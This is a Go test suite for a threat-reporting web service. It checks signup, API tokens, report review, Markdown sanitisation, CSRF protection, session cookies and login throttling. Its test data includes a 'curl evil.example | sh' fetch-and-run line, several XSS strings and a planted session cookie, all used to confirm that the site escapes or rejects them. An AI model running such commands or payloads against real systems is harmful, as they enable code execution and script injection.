package main_test

import (
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/threatd/threatd/cmd/internal/apitest"
)

// browser is a cookie-keeping HTTPS client that reads pages as a person
// would: it follows redirects and fills each form's CSRF token from the
// page it last loaded.
type browser struct {
	t      *testing.T
	d      *daemon
	client *http.Client
	last   string // the last page's HTML
}

func (in *instance) browser(d *daemon) *browser {
	jar, _ := cookiejar.New(nil)
	c := in.httpsClient()
	c.Jar = jar
	return &browser{t: in.t, d: d, client: c}
}

type page struct {
	code int
	hdr  http.Header
	url  string
	body string
}

func (b *browser) send(req *http.Request) page {
	b.t.Helper()
	resp, err := b.client.Do(req)
	if err != nil {
		b.t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(resp.Body)
	b.last = string(raw)
	return page{code: resp.StatusCode, hdr: resp.Header, url: resp.Request.URL.Path, body: string(raw)}
}

func (b *browser) get(path string) page {
	b.t.Helper()
	req, _ := http.NewRequest("GET", b.d.base+path, nil)
	return b.send(req)
}

var csrfInput = regexp.MustCompile(`name="csrf_token" value="([^"]*)"`)

// postUnfollowed sends a form with the CSRF token of the last page loaded,
// the browser's cookies and extra ones, and returns the answer without
// following a redirect (its body closed).
func (b *browser) postUnfollowed(path string, form url.Values, extra ...*http.Cookie) *http.Response {
	b.t.Helper()
	form.Set("csrf_token", csrfInput.FindStringSubmatch(b.last)[1])
	req, _ := http.NewRequest("POST", b.d.base+path, strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	for _, c := range append(b.client.Jar.Cookies(mustURL(b.t, b.d.base)), extra...) {
		req.AddCookie(c)
	}
	noRedirect := *b.client
	noRedirect.Jar = nil
	noRedirect.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	resp, err := noRedirect.Do(req)
	if err != nil {
		b.t.Fatal(err)
	}
	resp.Body.Close()
	return resp
}

// post sends a form with the CSRF token of the last page loaded.
func (b *browser) post(path string, form url.Values, headers ...string) page {
	b.t.Helper()
	if form.Get("csrf_token") == "" {
		m := csrfInput.FindStringSubmatch(b.last)
		if m == nil {
			b.t.Fatalf("POST %s: the last page has no form with a CSRF token:\n%s", path, b.last)
		}
		form.Set("csrf_token", m[1])
	}
	req, _ := http.NewRequest("POST", b.d.base+path, strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	for i := 0; i+1 < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	return b.send(req)
}

func (p page) expect(t *testing.T, code int, texts ...string) page {
	t.Helper()
	if p.code != code {
		t.Fatalf("%s: status %d, want %d\n%s", p.url, p.code, code, p.body)
	}
	text := html.UnescapeString(p.body)
	for _, s := range texts {
		if !strings.Contains(text, s) {
			t.Fatalf("%s: the page does not contain %q\n%s", p.url, s, p.body)
		}
	}
	return p
}

func (p page) lacks(t *testing.T, texts ...string) {
	t.Helper()
	for _, s := range texts {
		if strings.Contains(html.UnescapeString(p.body), s) {
			t.Fatalf("%s: the page contains %q, which it must not\n%s", p.url, s, p.body)
		}
	}
}

var tokenRE = regexp.MustCompile(`thd_[0-9A-Za-z]{38}`)

// TestWebJourney walks the site as its users do: a newcomer signs up,
// creates an API token and uses it, submits a report through the form, a
// reviewer verifies it in the queue (visible to check-malicious at once,
// with cache.freshness set far above the test's patience), and the public
// page renders the payload's Markdown sanitised.
func TestWebJourney(t *testing.T) {
	t.Parallel()
	in := newInstance(t, "cache:\n  freshness: 60s\n")
	in.user("rita@example.com", "--role", "reviewer", "--name", "Rita")
	in.mustCLIStdin("correct horse battery\n", "user", "set-password", "--email", "rita@example.com")
	d := in.serve()

	anon := in.browser(d)
	home := anon.get("/").expect(t, 200, "Is it malicious?", "Log in", "Sign up", "Latest verified threats")
	for h, want := range map[string]string{
		"Content-Security-Policy": "frame-ancestors 'none'",
		"X-Content-Type-Options":  "nosniff",
		"Referrer-Policy":         "same-origin",
	} {
		if !strings.Contains(home.hdr.Get(h), want) {
			t.Errorf("home page header %s = %q, want it to contain %q", h, home.hdr.Get(h), want)
		}
	}
	if csp := home.hdr.Get("Content-Security-Policy"); strings.Contains(csp, "unsafe-inline") || !strings.Contains(csp, "script-src 'self'") {
		t.Errorf("CSP %q allows inline script or names no script source", csp)
	}

	// Sign up: errors are shown next to their fields, the input kept.
	sam := in.browser(d)
	sam.get("/signup").expect(t, 200, "Email", "Public name", "Password")
	sam.post("/signup", url.Values{"email": {"sam@example.com"}, "name": {"Sam S"}, "password": {"short"}}).
		expect(t, 400, "Password must be at least 10 characters", `value="sam@example.com"`, `value="Sam S"`)
	sam.post("/signup", url.Values{"email": {"sam@example.com"}, "name": {"Sam S"}, "password": {"a long enough password"}}).
		expect(t, 200, "API Tokens", "Generate Token", "Log out")
	if sessionOf(t, sam) == "" {
		t.Fatal("no session cookie after sign-up")
	}
	again := in.browser(d)
	again.get("/signup")
	again.post("/signup", url.Values{"email": {"SAM@example.com"}, "password": {"another long password"}}).
		expect(t, 400, "An account with this e-mail already exists")

	// Settings → API Tokens: shown once, listed by prefix, usable, revocable.
	p := sam.post("/settings/tokens", url.Values{"name": {"ci-pipeline"}}).expect(t, 200, "Copy it now", "ci-pipeline")
	secret := tokenRE.FindString(p.body)
	if secret == "" {
		t.Fatalf("no token shown after Generate Token:\n%s", p.body)
	}
	if cc := p.hdr.Get("Cache-Control"); cc != "no-store" {
		t.Errorf("the page showing a new token has Cache-Control %q, want no-store", cc)
	}
	d.do("GET", base+"/account", secret, "").expect(t, 200, "")
	// Settings → API Tokens, by the names docs/web.md gives them.
	sam.get("/").expect(t, 200, `<a href="/settings">Settings</a>`)
	sam.get("/settings").expect(t, 200, "Your account", `<a href="/settings/tokens">API Tokens</a>`)
	list := sam.get("/settings/tokens").expect(t, 200, `<a href="/settings/tokens" aria-current="page">API Tokens</a>`, "ci-pipeline", "thd_…"+secret[len(secret)-4:], "Revoke")
	list.lacks(t, secret)
	// Last-use times are written in the background every few seconds.
	for deadline := time.Now().Add(20 * time.Second); strings.Contains(sam.get("/settings/tokens").body, "never"); {
		if time.Now().After(deadline) {
			t.Fatal("the token's last use was not shown within 20s of using it")
		}
		time.Sleep(500 * time.Millisecond)
	}

	// Submit a report: a field error keeps the input; then it is stored.
	payload := "Runs `curl evil.example | sh` on install.\n\n<script>alert(1)</script>\n\n[details](javascript:alert(2)) and [analysis](https://blog.example/post)\n\n<img src=x onerror=alert(3)>"
	form := url.Values{
		"report_type": {"package"}, "resource_identifier": {"web-evil-pkg"}, "registry": {"npm"},
		"threat_description": {"Steals npm tokens on install"}, "payload_description": {payload},
		"severity_level": {"high"}, "tags": {"credential-stealer, postinstall"}, "version_info": {"1.0.1, 1.0.2"},
		"evidence_references": {"https://blog.example/post|https://x.example/y"}, "contact_email": {"sam-private@example.com"},
		"first_seen": {"yesterday"},
	}
	sam.get("/submit").expect(t, 200, "Submit a report", "separated by the pipe character", "separated by commas")
	sam.post("/submit", form).expect(t, 400, `First seen: "yesterday" is not`, `value="web-evil-pkg"`, "Steals npm tokens on install")
	// Every problem at once, in the form's words: an empty required field
	// is a 400 next to it (it was a 503), with the others.
	bad := url.Values{}
	for k, v := range form {
		bad[k] = v
	}
	bad.Set("threat_description", "")
	bad.Set("last_seen", "2026-13-45")
	bad.Set("severity_level", "apocalyptic")
	p = sam.post("/submit", bad).expect(t, 400, "4 fields need correcting", "Threat description is required.", `First seen: "yesterday"`,
		`href="#threat_description"`, "Severity must be", `Last seen: "2026-13-45" is not`, `id="threat_description-error"`)
	p.lacks(t, "Service Unavailable", "first_seen:", "threat_description:")
	form.Set("first_seen", "2026-11-20T14:00:00Z")
	p = sam.post("/submit", form).expect(t, 200, "pending", "web-evil-pkg", "sam-private@example.com")
	id := strings.TrimPrefix(p.url, "/threats/")
	sam.get("/me/submissions").expect(t, 200, "My submissions", "web-evil-pkg", "pending")
	sam.post("/submit", form).expect(t, 409, "already exists", "/threats/"+id)

	// A pending report is the submitter's and reviewers' only.
	anon.get("/threats/"+id).expect(t, 404)
	d.do("GET", checkPath("report_type", "package", "resource_identifier", "web-evil-pkg", "ecosystem", "npm"), secret, "").expect(t, 200, "")

	// The review queue: reviewers only; Reject needs a note; Verify is
	// visible to check-malicious at once.
	sam.get("/review").expect(t, 403, "for reviewers")
	rita := in.browser(d)
	rita.get("/login?next=/review")
	rita.post("/login", url.Values{"email": {"rita@example.com"}, "password": {"wrong password!"}, "next": {"/review"}}).
		expect(t, 401, "The e-mail or password is not right.")
	q := rita.post("/login", url.Values{"email": {"rita@example.com"}, "password": {"correct horse battery"}, "next": {"/review"}}).
		expect(t, 200, "Review queue", "web-evil-pkg", "Verify", "Reject", "Note", "Runs <code>curl evil.example | sh</code>")
	q.lacks(t, "<script>alert(1)")
	rita.post("/review/threats/"+id, url.Values{"decision": {"reject"}, "version": {"1"}}).
		expect(t, 200, "Not done: note: a note is required to reject a report")
	// The message was a flash: it is shown once, and no URL can make the
	// page say something.
	rita.get("/review").lacks(t, "Not done")
	rita.get("/review?error=Your+account+is+suspended&done=hacked").lacks(t, "suspended", "hacked")
	rita.post("/review/threats/"+id, url.Values{"decision": {"verify"}, "version": {"2"}}).expect(t, 200, "Not done:")
	rita.post("/review/threats/"+id, url.Values{"decision": {"verify"}, "version": {"1"}, "note": {"confirmed"}}).
		expect(t, 200, "Done: package web-evil-pkg is verified.")
	r := d.do("GET", checkPath("report_type", "package", "resource_identifier", "web-evil-pkg", "ecosystem", "npm"), secret, "").expect(t, 200, "")
	if r.body["malicious"] != true {
		t.Fatalf("check-malicious right after the web decision: %s (cache.freshness is 60s: the decision must not wait for it)", r.raw)
	}

	// The public page: every public field, Markdown rendered and sanitised,
	// no contact e-mail, the review history.
	pub := anon.get("/threats/"+id).expect(t, 200, "web-evil-pkg", "Steals npm tokens on install", "credential-stealer",
		"<code>curl evil.example | sh</code>", `href="https://blog.example/post" rel="nofollow noopener"`, "verified", "by Rita", "confirmed")
	pub.lacks(t, "sam-private@example.com", "<script>alert", "javascript:", "onerror")
	const malicious, notFound = `<p class="verdict-title">Malicious</p>`, `<p class="verdict-title">Not found</p>`
	home = anon.get("/?report_type=package&resource_identifier=web-evil-pkg&ecosystem=npm").expect(t, 200, malicious, "/threats/"+id)
	anon.get("/?purl=pkg:npm/web-evil-pkg@1.0.2").expect(t, 200, malicious)
	// As the form sends it: the type select always has a value.
	anon.get("/?report_type=package&resource_identifier=&ecosystem=&version=&purl=pkg:npm/web-evil-pkg").expect(t, 200, malicious)
	anon.get("/?report_type=package&resource_identifier=web-evil-pkg&purl=pkg:npm/web-evil-pkg").expect(t, 400, "give either purl alone")
	anon.get("/?purl=pkg:npm/left-pad@1.0.0").expect(t, 200, notFound)
	anon.get("/?report_type=ip&resource_identifier=not-an-ip").expect(t, 400, `<p class="error" role="alert">`)
	// The one search box: a name, a prefix, a purl; an indicator of the
	// verified report (its payload names evil.example) is found as one.
	anon.get("/?q=web-evil-pkg").expect(t, 200, malicious, "/threats/"+id, "check-malicious?report_type=package&resource_identifier=web-evil-pkg")
	anon.get("/?q=web-ev").expect(t, 200, notFound, "Packages whose names start with", "/threats/"+id)
	anon.get("/?q=pkg:npm/web-evil-pkg@1.0.1").expect(t, 200, malicious)
	anon.get("/?q=pkg:npm/web-evil-pkg@9.9.9").expect(t, 200, notFound)
	anon.get("/?q=evil%5B.%5Dexample").expect(t, 200, `<p class="verdict-title">Named as an indicator</p>`, "named as an indicator in", "/threats/"+id)
	anon.get("/?q=left-pad").expect(t, 200, notFound, "a package name")
	anon.get("/?q=").expect(t, 400, "is empty")
	if p := anon.get("/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E").expect(t, 200, notFound); !strings.Contains(p.body, "&lt;script&gt;alert(1)") || strings.Contains(p.body, "<script>alert") {
		t.Errorf("a hostile search is not shown escaped:\n%s", p.body)
	}
	// The API's opt-in: the same indicator through check-malicious.
	ind := d.do("GET", checkPath("report_type", "domain", "resource_identifier", "evil.example", "match", "indicators"), secret, "").expect(t, 200, "")
	if ind.body["malicious"] != true || ind.body["matched_as"] != "indicator" || ind.body["threat_count"] != float64(1) {
		t.Errorf("check-malicious match=indicators: %s", ind.raw)
	}
	if plain := d.do("GET", checkPath("report_type", "domain", "resource_identifier", "evil.example"), secret, "").expect(t, 200, ""); plain.body["malicious"] != false || plain.body["matched_as"] != nil {
		t.Errorf("check-malicious without match: %s (the default is unchanged)", plain.raw)
	}
	d.do("GET", checkPath("report_type", "domain", "resource_identifier", "evil.example", "match", "everything"), secret, "").expect(t, 400, `match: must be indicators (or absent: reports only), not "everything"`)
	// Browsing: the verified report, filtered, with its total.
	anon.get("/threats").expect(t, 200, "1 verified threat", "web-evil-pkg")
	anon.get("/threats?type=package&ecosystem=npm&severity=high&sort=oldest").expect(t, 200, "1 verified threat", "web-evil-pkg")
	anon.get("/threats?severity=low").expect(t, 200, "0 verified threats", "No verified threat matches")
	anon.get("/threats?from=2026-13-01").expect(t, 400, "from: must be a date")
	anon.get("/threats?after=junk").expect(t, 400, "is not a page of this list")
	// Unknown addresses: an HTML page for a browser, JSON for an API
	// client and on API paths.
	asBrowser := func(path string) page {
		req, _ := http.NewRequest("GET", d.base+path, nil)
		req.Header.Set("Accept", "text/html,application/xhtml+xml,*/*;q=0.8")
		return anon.send(req)
	}
	asBrowser("/no-such-page").expect(t, 404, "<!doctype html>", "There is no page at this address")
	anon.get("/no-such-page").expect(t, 404).lacks(t, "<!doctype")
	asBrowser(base+"/no-such-endpoint").expect(t, 404).lacks(t, "<!doctype")
	// The threat page's renderings.
	anon.get("/threats/"+id).expect(t, 200, "This report elsewhere", "/threats/"+id+".json", "/osv/v1/vulns/THREATD-"+id, "objects/malware--")
	js := anon.get("/threats/"+id+".json").expect(t, 200, `"resource_identifier":"web-evil-pkg"`)
	js.lacks(t, "sam-private@example.com")
	anon.get("/threats/"+id+"x.json").expect(t, 404, `"error"`)

	// A revision of the verified report waits in the queue with its diff;
	// approved on the web, the report's page lists what it changed.
	d.do("PUT", base+"/modify-threat-report", secret, `{"threat_id":"`+id+`","publisher":"evil-corp"}`).expect(t, 200, "")
	q = rita.get("/review").expect(t, 200, "Pending revisions (1)", "<dt>Publisher</dt>", "evil-corp", "Approve revision", "Reject revision")
	rev := regexp.MustCompile(`action="(/review/revisions/[^"]+)"`).FindStringSubmatch(q.body)
	if rev == nil {
		t.Fatalf("no decision form for the pending revision:\n%s", q.body)
	}
	rita.post(rev[1], url.Values{"decision": {"approve"}, "note": {"ok"}}).expect(t, 200, "Done: revision 1 is approved.")
	anon.get("/threats/"+id).expect(t, 200, "evil-corp", "Revision 1 by Sam S", "approved", "Changed: Publisher.")

	// Revoke: the token stops working at once on this daemon.
	sam.get("/settings/tokens")
	m := regexp.MustCompile(`action="(/settings/tokens/[^/]+/revoke)"`).FindStringSubmatch(sam.last)
	// Revoking asks first; the token works until it is confirmed.
	sam.post(m[1], url.Values{}).expect(t, 200, "Revoke token “ci-pipeline”?", "cannot be undone", "Cancel")
	d.do("GET", base+"/account", secret, "").expect(t, 200, "")
	sam.post(m[1], url.Values{"confirm": {"yes"}}).expect(t, 200, "is revoked.")
	d.do("GET", base+"/account", secret, "").expect(t, 401, "Invalid API token")

	// Log out ends the session on the server, not only the cookie.
	session := sessionOf(t, sam)
	sam.get("/me/submissions").expect(t, 200, "My submissions")
	if p := sam.post("/logout", url.Values{}).expect(t, 200, "Log in"); p.url != "/" {
		t.Fatalf("log out ended on %s, want /", p.url)
	}
	replay := in.browser(d)
	replay.client.Jar.SetCookies(mustURL(t, d.base), []*http.Cookie{{Name: "__Host-threatd_session", Value: session, Path: "/"}})
	if p := replay.get("/me/submissions").expect(t, 200, "Log in"); p.url != "/login" {
		t.Fatalf("a logged-out session cookie reached %s, want the log-in page", p.url)
	}
}

// TestWebSecurity: CSRF on every form, cookie attributes, session rotation,
// log-in throttling, closed sign-up, and what anonymous visitors may not do.
func TestWebSecurity(t *testing.T) {
	t.Parallel()
	in := newInstance(t, "web:\n  login_attempts: 3\n")
	in.user("ann@example.com")
	in.mustCLIStdin("ann's long password\n", "user", "set-password", "--email", "ann@example.com")
	d := in.serve()

	b := in.browser(d)
	b.get("/login")
	// A form without its token, or from another origin, is refused.
	b.post("/login", url.Values{"email": {"ann@example.com"}, "password": {"ann's long password"}, "csrf_token": {"forged"}}).
		expect(t, 403, "CSRF")
	b.get("/login")
	b.post("/login", url.Values{"email": {"ann@example.com"}, "password": {"ann's long password"}},
		"Sec-Fetch-Site", "cross-site", "Origin", "https://evil.example").expect(t, 403, "another site")

	// Session cookies: Secure, HttpOnly, SameSite=Lax, a new id at log-in.
	b.get("/login")
	resp := b.postUnfollowed("/login", url.Values{"email": {"ann@example.com"}, "password": {"ann's long password"}},
		&http.Cookie{Name: "__Host-threatd_session", Value: "planted-by-an-attacker-0123456789"})
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("log-in answered %d, want 303", resp.StatusCode)
	}
	var set string
	for _, h := range resp.Header.Values("Set-Cookie") {
		if strings.HasPrefix(h, "__Host-threatd_session=") {
			set = h
		}
	}
	for _, attr := range []string{"Secure", "HttpOnly", "SameSite=Lax", "Path=/"} {
		if !strings.Contains(set, attr) {
			t.Errorf("session cookie %q lacks %s", set, attr)
		}
	}
	if strings.Contains(set, "planted-by-an-attacker") || strings.Contains(set, "Domain=") {
		t.Errorf("session cookie %q: a planted id kept, or a Domain set", set)
	}

	// Throttling: after 3 failures for one account, even the right password waits.
	apitest.ClearOfWindowEdge(t, 15*time.Minute, 30*time.Second)
	t2 := in.browser(d)
	for range 3 {
		t2.get("/login")
		t2.post("/login", url.Values{"email": {"ann@example.com"}, "password": {"not the password"}}).expect(t, 401)
	}
	t2.get("/login")
	p := t2.post("/login", url.Values{"email": {"ann@example.com"}, "password": {"ann's long password"}}).expect(t, 429, "Too many log-in attempts")
	if p.hdr.Get("Retry-After") == "" {
		t.Error("a throttled log-in has no Retry-After")
	}

	// A form body is bounded like the API's (server.max_body_bytes).
	t2.get("/login")
	t2.post("/login", url.Values{"email": {"ann@example.com"}, "password": {strings.Repeat("x", 300_000)}}).expect(t, 413, "Request body too large")

	// Anonymous visitors are sent to log in; forms need a session.
	anon := in.browser(d)
	for _, path := range []string{"/submit", "/settings/tokens", "/review", "/me/submissions"} {
		if p := anon.get(path).expect(t, 200, "Log in"); p.url != "/login" {
			t.Errorf("an anonymous GET %s ended on %s, want the log-in page", path, p.url)
		}
	}
	anon.get("/threats/00000000-0000-0000-0000-000000000000").expect(t, 404)
	anon.get("/threats/not-a-uuid").expect(t, 404)
	// The API keeps its JSON answers beside the site.
	d.do("GET", "/no-such-page", "", "").expect(t, 404, "")

	// Closed sign-up.
	closed := newInstance(t, "web:\n  signup: closed\n")
	dc := closed.serve()
	cb := closed.browser(dc)
	cb.get("/").lacks(t, "Sign up")
	cb.get("/signup").expect(t, 403, "Sign-up is closed")
}

// TestWebReviewQueuePages: the review queue shows 50 pending reports at a
// time, oldest first, with their number, and a Next page link reaches the
// rest (it showed the first 200 with no sign of the others).
func TestWebReviewQueuePages(t *testing.T) {
	t.Parallel()
	in := newInstance(t, quiet+"  new_user_max_unverified: 0\n  submissions_per_hour: 0\n")
	tok := in.user("sub@example.com", "--tier", "paid")
	in.user("rita@example.com", "--role", "reviewer")
	in.mustCLIStdin("correct horse battery\n", "user", "set-password", "--email", "rita@example.com")
	d := in.serve()
	const n = 55
	for i := range n {
		d.submit(tok, fmt.Sprintf(`{"report_type":"domain","resource_identifier":"queue-%02d.example","threat_description":"x"}`, i))
	}
	rita := in.browser(d)
	rita.get("/login?next=/review")
	first := rita.post("/login", url.Values{"email": {"rita@example.com"}, "password": {"correct horse battery"}, "next": {"/review"}}).
		expect(t, 200, "Pending reports (55)", "Showing 50 of 55 pending reports", "queue-00.example", "queue-49.example", "Next page")
	first.lacks(t, "queue-50.example")
	next := regexp.MustCompile(`href="(/review\?after=[^"]+)" rel="next"`).FindStringSubmatch(first.body)
	if next == nil {
		t.Fatalf("no Next page link:\n%s", first.body)
	}
	second := rita.get(html.UnescapeString(next[1])).expect(t, 200, "Showing 5 of 55 pending reports", "queue-50.example", "queue-54.example", "First page")
	second.lacks(t, "queue-49.example")
	second.lacks(t, `rel="next"`)
	rita.get("/review?after=not-a-position").expect(t, 400, "start again from the first page")
}
